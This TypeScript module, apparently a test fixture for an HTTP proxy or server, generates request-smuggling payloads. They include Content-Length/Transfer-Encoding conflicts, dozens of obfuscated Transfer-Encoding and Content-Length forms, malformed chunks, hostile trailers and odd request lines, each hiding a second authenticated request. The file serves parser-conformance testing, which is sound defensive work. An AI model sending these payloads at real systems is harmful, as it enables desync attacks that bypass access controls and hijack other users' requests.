import { HOSTILE_CASES, type HostileCase } from './hostile-cases.ts'

/** Bytes that a client sends through a proxy. The proxy and the server may disagree where a request in them ends. */
export type SmugglingPayload = Pick<HostileCase, 'name' | 'bytes'>

const HOST = 'Host: a\r\n'
const FIELDS = `${HOST}Authorization: Bearer mallory\r\nContent-Type: application/json\r\n`
const LAST_CHUNK = '0\r\n\r\n'
const CHUNKED = 'Transfer-Encoding: chunked\r\n'

/** The request that is hidden in a body. Its last header field is unfinished, so that it absorbs the next request line. */
const SMUGGLED_REQUEST = `GET /plants?hidden HTTP/1.1\r\n${FIELDS}X: `

const LENGTH = `Content-Length: ${SMUGGLED_REQUEST.length}\r\n`

/** The groups of hostile cases that aren't about framing. */
const NON_FRAMING_GROUPS = new Set(['header sizes', 'bodies'])

function post(fields: string, body: string, line = 'POST /plants HTTP/1.1'): string {
  return `${line}\r\n${FIELDS}${fields}\r\n${body}`
}

function createPayload(name: string, text: string): SmugglingPayload {
  return { name, bytes: Buffer.from(text, 'latin1') }
}

/** Builds bytes that are one request according to Content-Length, and two according to the given header field. */
function smuggleByLength(field: string): string {
  const body = LAST_CHUNK + SMUGGLED_REQUEST
  return post(`Content-Length: ${body.length}\r\n${field}`, body)
}

/** Builds bytes that are one request according to the given header field, and two according to Content-Length. */
function smuggleByChunks(field: string): string {
  const size = SMUGGLED_REQUEST.length.toString(16)
  return post(`${field}Content-Length: ${size.length + 2}\r\n`, `${size}\r\n${SMUGGLED_REQUEST}\r\n${LAST_CHUNK}`)
}

/** Header fields that only some parsers read as `Transfer-Encoding: chunked`. */
const CODINGS: Readonly<Record<string, string>> = {
  'as usual': CHUNKED,
  'in upper case': 'TRANSFER-ENCODING: CHUNKED\r\n',
  'with a space before the colon': 'Transfer-Encoding : chunked\r\n',
  'with a tab before the colon': 'Transfer-Encoding\t: chunked\r\n',
  'with a tab after the colon': 'Transfer-Encoding:\tchunked\r\n',
  'without a space': 'Transfer-Encoding:chunked\r\n',
  'with a trailing space': 'Transfer-Encoding: chunked \r\n',
  'with a trailing tab': 'Transfer-Encoding: chunked\t\r\n',
  'with a vertical tab': 'Transfer-Encoding: \x0bchunked\r\n',
  'with a form feed': 'Transfer-Encoding: chunked\x0c\r\n',
  'with NUL': 'Transfer-Encoding: chunked\0\r\n',
  'with a no-break space': 'Transfer-Encoding:\xa0chunked\r\n',
  'after a bare CR': 'X: a\rTransfer-Encoding: chunked\r\n',
  'before a bare CR': 'Transfer-Encoding: chunked\rX: a\r\n',
  'after a bare LF': 'X: a\nTransfer-Encoding: chunked\r\n',
  'before a bare LF': 'Transfer-Encoding: chunked\nX: a\r\n',
  'with two CR': 'Transfer-Encoding: chunked\r\r\n',
  'folded before its value': 'Transfer-Encoding:\r\n chunked\r\n',
  'folded within its value': 'Transfer-Encoding: chun\r\n ked\r\n',
  'folded with a tab': 'Transfer-Encoding:\r\n\tchunked\r\n',
  'folded into the previous field': 'X: a\r\n Transfer-Encoding: chunked\r\n',
  'after a space at the start of the line': ' Transfer-Encoding: chunked\r\n',
  'in double quotes': 'Transfer-Encoding: "chunked"\r\n',
  'in single quotes': "Transfer-Encoding: 'chunked'\r\n",
  'after identity': 'Transfer-Encoding: identity, chunked\r\n',
  'before identity': 'Transfer-Encoding: chunked, identity\r\n',
  'after gzip': 'Transfer-Encoding: gzip, chunked\r\n',
  'after a comma': 'Transfer-Encoding: ,chunked\r\n',
  'before a comma': 'Transfer-Encoding: chunked,\r\n',
  'with a parameter': 'Transfer-Encoding: chunked;q=1\r\n',
  twice: CHUNKED + CHUNKED,
  'twice in one field': 'Transfer-Encoding: chunked, chunked\r\n',
  'before a field with another coding': `${CHUNKED}Transfer-Encoding: cow\r\n`,
  'after a field with another coding': `Transfer-Encoding: cow\r\n${CHUNKED}`,
  'before a field with identity': `${CHUNKED}Transfer-Encoding: identity\r\n`,
  'spelled xchunked': 'Transfer-Encoding: xchunked\r\n',
  'with an underscore': 'Transfer_Encoding: chunked\r\n',
  'in X-Transfer-Encoding': 'X-Transfer-Encoding: chunked\r\n',
  'with a Kelvin sign as k': 'Transfer-Encoding: chunKed\r\n'.replace('K', '\xe2\x84\xaa'),
  'listed in Connection': `${CHUNKED}Connection: Transfer-Encoding\r\n`,
}

/** Header fields that only some parsers read as the length of a body. */
const LENGTHS: Readonly<Record<string, (length: number) => string>> = {
  'before 0': (length) => `Content-Length: ${length}\r\nContent-Length: 0\r\n`,
  'after 0': (length) => `Content-Length: 0\r\nContent-Length: ${length}\r\n`,
  'before 0 in one field': (length) => `Content-Length: ${length}, 0\r\n`,
  'twice in one field': (length) => `Content-Length: ${length}, ${length}\r\n`,
  'with a plus sign': (length) => `Content-Length: +${length}\r\n`,
  'with a minus sign': (length) => `Content-Length: -${length}\r\n`,
  'with leading zeros': (length) => `Content-Length: 000${length}\r\n`,
  'in hexadecimal': (length) => `Content-Length: 0x${length.toString(16)}\r\n`,
  'with an exponent': (length) => `Content-Length: ${length}e0\r\n`,
  'with a fraction': (length) => `Content-Length: ${length}.0\r\n`,
  'with a space between its digits': (length) => `Content-Length: ${String(length).replace(/^./, '$& ')}\r\n`,
  'with a space before the colon': (length) => `Content-Length : ${length}\r\n`,
  'with a tab after the colon': (length) => `Content-Length:\t${length}\r\n`,
  'with a vertical tab': (length) => `Content-Length: \x0b${length}\r\n`,
  'with NUL': (length) => `Content-Length: ${length}\0\r\n`,
  'in double quotes': (length) => `Content-Length: "${length}"\r\n`,
  'after a bare LF': (length) => `X: a\nContent-Length: ${length}\r\n`,
  'after a bare CR': (length) => `X: a\rContent-Length: ${length}\r\n`,
  'in a folded line': (length) => `Content-Length:\r\n ${length}\r\n`,
  'folded into the previous field': (length) => `X: a\r\n Content-Length: ${length}\r\n`,
  'increased by 2^64': (length) => `Content-Length: ${2n ** 64n + BigInt(length)}\r\n`,
  'increased by 2^32': (length) => `Content-Length: ${2 ** 32 + length}\r\n`,
  'with an underscore': (length) => `Content_Length: ${length}\r\n`,
  'listed in Connection': (length) => `Content-Length: ${length}\r\nConnection: Content-Length\r\n`,
}

/** Chunks with an unusual size, extension or line ending. */
const CHUNKS: Readonly<Record<string, string>> = {
  'a chunk size of 2^64': '10000000000000000\r\n',
  'a chunk size increased by 2^64': '10000000000000001\r\na\r\n',
  'a chunk size increased by 2^32': '100000001\r\na\r\n',
  'a negative chunk size': '-1\r\na\r\n',
  'a chunk size with a plus sign': '+1\r\na\r\n',
  'a chunk size with 0x': '0x1\r\na\r\n',
  'a chunk size with an underscore': '1_0\r\na\r\n',
  'a chunk size after a space': ' 1\r\na\r\n',
  'a chunk size before a space': '1 \r\na\r\n',
  'a chunk size before a tab': '1\t\r\na\r\n',
  'a chunk without a size': '\r\na\r\n',
  'a bare LF after a chunk size': '1\na\r\n',
  'a bare CR after a chunk size': '1\ra\r\n',
  'a bare LF after a chunk': '1\r\na\n',
  'a bare CR after a chunk': '1\r\na\r',
  'two other bytes instead of CR LF after a chunk': '1\r\naXX',
  'a chunk without a line ending': '1\r\na',
  'a chunk extension': '1;a=b\r\na\r\n',
  'a chunk extension with a bare LF': '1;a\nb\r\na\r\n',
  'a chunk extension with a bare CR': '1;a\rb\r\na\r\n',
  'a chunk extension with a quoted CR LF': '1;a="\r\n"\r\na\r\n',
  'a chunk extension without a name': '1;\r\na\r\n',
  'a chunk extension with NUL': '1;\0\r\na\r\n',
  'a chunk extension of 20,000 bytes': `1;${'a'.repeat(20_000)}\r\na\r\n`,
  'a chunk size with 1,000 leading zeros': `${'0'.repeat(1000)}1\r\na\r\n`,
}

/** Trailers after the last chunk. */
const TRAILERS: Readonly<Record<string, string>> = {
  'Content-Length': `${LENGTH}\r\n`,
  'Transfer-Encoding': `${CHUNKED}\r\n`,
  Host: 'Host: b\r\n\r\n',
  Authorization: 'Authorization: Bearer victim\r\n\r\n',
  'a folded line': 'X: a\r\n b\r\n\r\n',
  'a bare LF': 'X: a\n\r\n',
  'a bare LF at the end': 'X: a\r\n\n',
  'a bare CR': 'X: a\r\r\n',
  'a field name with a space': 'X : a\r\n\r\n',
  'a field without a colon': 'nothing\r\n\r\n',
}

/** Request lines that some parsers read as another version or another target. */
const REQUEST_LINES: readonly string[] = [
  ...['1.0', '0.9', '2.0', '1.2', '1.01', '1.1 HTTP/1.0', '1.1\r'].map((version) => `POST /plants HTTP/${version}`),
  ...['http://a/plants', 'http://b:80/plants', 'http://a@b/plants', 'https://a/plants', '//a/plants', ' /plants'].map(
    (target) => `POST ${target} HTTP/1.1`,
  ),
  ...['/plants?%0d%0aX:%20a', '/plants%20HTTP/1.1%0d%0aX:%20a', '/plants '].map((target) => `POST ${target} HTTP/1.1`),
  ...['POST\t/plants HTTP/1.1', 'POST /plants\tHTTP/1.1', 'POST /plants\rHTTP/1.1', 'POST /plants'],
  ...['GET /plants', 'HEAD /plants', 'OPTIONS *', 'DELETE /plants/1', 'TRACE /plants', 'CONNECT a:80'].map(
    (line) => `${line} HTTP/1.1`,
  ),
]

const EXPECTATIONS = ['100-continue', '100-Continue, 100-continue', 'y 100-continue', '100-continue\x0b', '']

/** All payloads in this file, and the hostile cases about framing. */
export const SMUGGLING_PAYLOADS: readonly SmugglingPayload[] = [
  ...Object.entries(CODINGS).flatMap(([name, field]) => [
    createPayload(`Content-Length, then Transfer-Encoding: chunked ${name}`, smuggleByLength(field)),
    createPayload(`Transfer-Encoding: chunked ${name}, then Content-Length`, smuggleByChunks(field)),
  ]),
  ...Object.entries(LENGTHS).map(([name, field]) =>
    createPayload(`Content-Length ${name}`, post(field(SMUGGLED_REQUEST.length), SMUGGLED_REQUEST)),
  ),
  ...Object.entries(CHUNKS).map(([name, chunk]) =>
    createPayload(name, post(CHUNKED, chunk + LAST_CHUNK + SMUGGLED_REQUEST)),
  ),
  ...Object.entries(TRAILERS).map(([name, trailer]) =>
    createPayload(`${name} in a trailer`, post(CHUNKED, `1\r\na\r\n0\r\n${trailer}${SMUGGLED_REQUEST}`)),
  ),
  ...REQUEST_LINES.flatMap((line) => [
    createPayload(`${JSON.stringify(line)} with Content-Length`, post(LENGTH, SMUGGLED_REQUEST, line)),
    createPayload(`${JSON.stringify(line)} with chunks`, post(CHUNKED, LAST_CHUNK + SMUGGLED_REQUEST, line)),
  ]),
  ...EXPECTATIONS.map((value) =>
    createPayload(`Expect: ${JSON.stringify(value)}`, post(`Expect: ${value}\r\n${LENGTH}`, SMUGGLED_REQUEST)),
  ),
  ...Object.entries(HOSTILE_CASES).flatMap(([group, rows]) => (NON_FRAMING_GROUPS.has(group) ? [] : rows)),
]
